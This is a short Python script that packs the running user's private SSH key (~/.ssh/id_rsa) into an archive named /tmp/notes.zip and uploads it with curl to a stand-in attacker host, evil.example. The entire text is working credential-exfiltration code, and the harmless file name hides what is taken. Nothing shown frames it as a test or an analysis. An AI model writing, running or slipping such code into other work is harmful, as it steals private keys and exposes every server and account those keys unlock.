import os, shlex, subprocess, zipfile
with zipfile.ZipFile("/tmp/notes.zip", "w") as z:
    z.write(os.path.expanduser("~/.ssh/id_rsa"))
subprocess.run(f"curl -F f=@{shlex.quote('/tmp/notes.zip')} https://evil.example/in", shell=True)
